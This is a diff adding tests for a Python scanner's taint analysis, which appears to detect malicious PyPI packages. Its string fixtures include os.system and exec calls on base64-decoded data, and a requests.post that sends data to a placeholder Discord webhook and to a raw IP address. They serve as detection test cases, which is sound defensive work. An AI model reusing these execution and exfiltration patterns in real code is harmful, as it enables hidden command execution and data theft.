@@ -0,0 +1,147 @@
+import ast
+import PyRepoScanner.scanner.evaluator as prs_evaluator
+import PyRepoScanner.scanner.facts as prs_facts
+import PyRepoScanner.scanner.node_visitor as prs_node_visitor
+from PyRepoScanner.scanner.pypi.scanner import PypiScanner
+
+
+def _scan(source):
+    scanner = PypiScanner("../../rules")
+    tnv = prs_node_visitor.TaintNodeVisitor(rules=scanner.rules, rule_index=scanner.rule_index, filepath="test.py")
+    tnv.generic_visit(ast.parse(source))
+    return tnv, sorted((issue["id"], issue["sink"]["lineno"]) for issue in tnv.results)
+
+
+def test_flows():
+    tnv, _ = _scan("import os\nif a:\n    os.system(a)\nelse:\n    b = 1\nwhile b:\n    continue\nos.system(b)\n")
+    flows = tnv.facts.flows
+    blocks = [event[1] for event in tnv.facts.events if event[0] == prs_facts.BLOCK]
+    # 入口, if分支, else分支, if之后, 循环头, 循环体, continue之后(不可达), 循环之后
+    entry, body, orelse, join, header, loop_body, dead, after = blocks
+    assert flows[entry] == [body, orelse]
+    assert flows[body] == [join] and flows[orelse] == [join] and flows[join] == [header]
+    assert flows[header] == [loop_body, after] and flows[loop_body] == [header]
+    assert flows[dead] == [header] and after not in flows
+
+
+def test_branch_join():
+    source = (
+        "import os, base64\n"
+        "if c:\n"
+        "    x = base64.b64decode(data)\n"
+        "else:\n"
+        "    x = 'ls'\n"
+        "os.system(x)\n"
+    )
+    # 两个分支的变量表在语句之后汇合，else分支的赋值不会覆盖if分支的taint
+    assert ("1001", 6) in _scan(source)[1]
+
+
+def test_loop_fixed_point():
+    source = (
+        "import os, base64\n"
+        "def run(data):\n"
+        "    cmd = 'ls'\n"
+        "    for _ in range(3):\n"
+        "        os.system(cmd)\n"
+        "        cmd = base64.b64decode(data)\n"
+    )
+    # 循环体后部的赋值经回边流入循环体前部的读取
+    assert ("1001", 5) in _scan(source)[1]
+
+
+def test_loop_assignment_chain(monkeypatch):
+    source = (
+        "import os, base64\n"
+        "def run(data):\n"
+        "    " + " = ".join(f"v{i}" for i in range(10)) + " = 'ls'\n"
+        "    while True:\n"
+        "        os.system(v0)\n"
+        + "".join(f"        v{i} = v{i + 1}\n" for i in range(9)) +
+        "        v9 = base64.b64decode(data)\n"
+    )
+    # 污点每轮沿赋值链前进一步，需迭代至不动点而不是固定轮数
+    assert ("1001", 5) in _scan(source)[1]
+    assert PypiScanner("../../rules").scan_py_bytes("setup.py", source.encode())["partial"] == {}
+
+    # 超出不动点迭代的安全上限时标记为partial
+    monkeypatch.setattr(prs_evaluator, "FIXED_POINT_VISIT_FACTOR", 0)
+    results = PypiScanner("../../rules").scan_py_bytes("setup.py", source.encode())
+    assert results["partial"]["setup.py"] == "fixed point iteration limit exceeded in scope run"
+
+
+def test_try_handler():
+    source = (
+        "import base64\n"
+        "try:\n"
+        "    x = base64.b64decode(data)\n"
+        "    x = 1\n"
+        "except Exception:\n"
+        "    exec(x)\n"
+    )
+    assert ("1001", 6) in _scan(source)[1]
+
+
+def test_straight_line_kill():
+    source = (
+        "import os, base64\n"
+        "x = base64.b64decode(data)\n"
+        "x = 'ls'\n"
+        "os.system(x)\n"
+    )
+    assert ("1001", 4) not in _scan(source)[1]
+
+
+def test_summary_sinks():
+    source = (
+        "import os, base64\n"
+        "def main():\n"
+        "    run(base64.b64decode(data))\n"
+        "def run(cmd):\n"
+        "    os.system(cmd)\n"
+        "main()\n"
+    )
+    # 被调函数定义在调用之后，在调用处按需生成摘要，实参经形参到达函数内的sink
+    assert ("1001", 5) in _scan(source)[1]
+
+
+def test_summary_returns():
+    source = (
+        "import os, base64\n"
+        "def decode(s):\n"
+        "    return base64.b64decode(s)\n"
+        "os.system(decode(data))\n"
+    )
+    assert ("1001", 4) in _scan(source)[1]
+
+
+def test_summary_method_recursion():
+    source = (
+        "import os, base64\n"
+        "class C:\n"
+        "    def run(self, cmd, n):\n"
+        "        self.run(cmd, n - 1)\n"
+        "        os.system(cmd)\n"
+        "    def go(self):\n"
+        "        self.run(base64.b64decode(data), 3)\n"
+    )
+    # 通过self调用方法时实参位置比形参位置少1，递归调用不使用尚在生成中的摘要
+    assert ("1001", 5) in _scan(source)[1]
+    assert ("1001", 5) not in _scan(source.replace("self.run(base64", "self.run(n, base64"))[1]
+
+
+def test_literal_taints():
+    source = (
+        "import requests\n"
+        "HOOK = 'https://discord.com/api/webhooks/123/abc'\n"
+        "def send(data):\n"
+        "    requests.post(HOOK, data=data)\n"
+        "requests.get('http://' + '45.61.136.7' + '/c')\n"
+        "requests.get('https://pypi.org/simple')\n"
+        "'''45.61.136.7'''\n"
+    )
+    tnv, issues = _scan(source)
+    assert issues == [("2003", 4), ("2003", 5)]
+    # 文档字符串等单独成句的常量不记录
+    assert tnv.facts.literals == ["https://discord.com/api/webhooks/123/abc", "http://", "45.61.136.7", "/c",
+                                  "https://pypi.org/simple"]